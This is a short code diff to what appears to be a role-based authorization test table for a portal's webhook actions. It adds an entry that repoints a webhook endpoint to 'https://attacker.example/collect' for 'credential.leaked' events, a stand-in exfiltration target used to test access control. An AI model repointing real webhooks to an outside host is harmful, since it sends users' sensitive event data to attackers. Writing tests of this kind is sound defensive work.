@@ -356,6 +356,14 @@ const TABLE: Record<string, Row> = {
     otherAdmin: own(),
     viewer: refused(WEBHOOK_ADMINS_ONLY),
   },
+  'app/(portal)/webhooks/actions.ts#updateEndpointAction': onEndpoint((endpointId) =>
+    webhooks.updateEndpointAction({
+      endpointId,
+      url: 'https://attacker.example/collect',
+      description: '',
+      eventTypes: ['credential.leaked'],
+    }),
+  ),
   'app/(portal)/webhooks/actions.ts#rollSigningSecretAction': onEndpoint((endpointId) =>
     webhooks.rollSigningSecretAction({ endpointId }),
   ),
